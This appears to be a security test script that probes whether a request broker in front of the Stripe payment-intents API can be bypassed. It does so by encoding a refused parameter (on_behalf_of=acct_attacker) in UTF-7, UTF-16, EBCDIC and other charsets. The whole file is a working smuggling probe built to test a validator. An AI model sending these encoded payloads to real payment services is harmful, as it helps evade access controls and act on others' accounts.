# attack: in UTF-7, UTF-16 or EBCDIC a refused name has other bytes, which a server that honours the charset reads
# expect: broker
# validator: refused
import json
import socket
import ssl


def ask(target, method="GET", headers="", body=b""):
    """Status and what arrived at the API, None when nothing did."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(1)
        head = f"{method} {target} HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close\r\n{headers}"
        head += f"Content-Length: {len(body)}\r\n\r\n" if body else "\r\n"
        tls.sendall(head.encode("latin-1") + body)
        answer = b""
        while piece := tls.recv(65536):
            answer += piece
    head, _, text = answer.partition(b"\r\n\r\n")
    status = int(head.split()[1])
    return status, json.loads(text).get("echo") if status == 200 else None


VARIANTS = (
    ("utf-7", b"on+AF8-behalf+AF8-of=acct_attacker"),
    ("utf-7", b"+AG8Abg-_behalf_of=acct_attacker"),
    ("utf-16", "on_behalf_of=acct_attacker".encode("utf-16")),
    ("utf-16le", "on_behalf_of=acct_attacker".encode("utf-16-le")),
    ("utf-16", b"amount=1"),
    ("utf-32", "on_behalf_of=acct_attacker".encode("utf-32")),
    ("ibm037", "on_behalf_of=acct_attacker".encode("cp037")),
    ("ibm037", "".join(f"%{byte:02X}" for byte in "on_behalf_of".encode("cp037")).encode() + b"=acct_attacker"),
    ("cp500", b"%96%95%6D%82%85%88%81%93%86%6D%96%86=x"),
    ("shift_jis", b"on%81_behalf_of=acct_attacker"),
    ("x-user-defined", b"amount=1"),
    ("iso-2022-jp", b"%1b%28Bon_behalf_of=acct_attacker"),
    ("utf-8; charset=utf-16", b"amount=1"),
    ("ascii", b"amount=1&_charset_=utf-7&on+AF8-behalf+AF8-of=acct_attacker"),
)
for charset, body in VARIANTS:
    for kind in ("application/x-www-form-urlencoded", "application/json"):
        try:
            status, arrived = ask("/v1/payment_intents", "POST", f"Content-Type: {kind}; charset={charset}\r\n", body)
        except (OSError, ValueError, IndexError) as error:
            print(charset, type(error).__name__, error)
            continue
        print(charset, kind, status)
        if arrived and charset not in {"utf-8", "ascii"}:
            print("ESCAPED: a body in", charset, "arrived as such", arrived["headers"].get("content-type"), flush=True)
        elif arrived and "_charset_" in arrived["body"]:
            print("ESCAPED: the form names its own charset", flush=True)
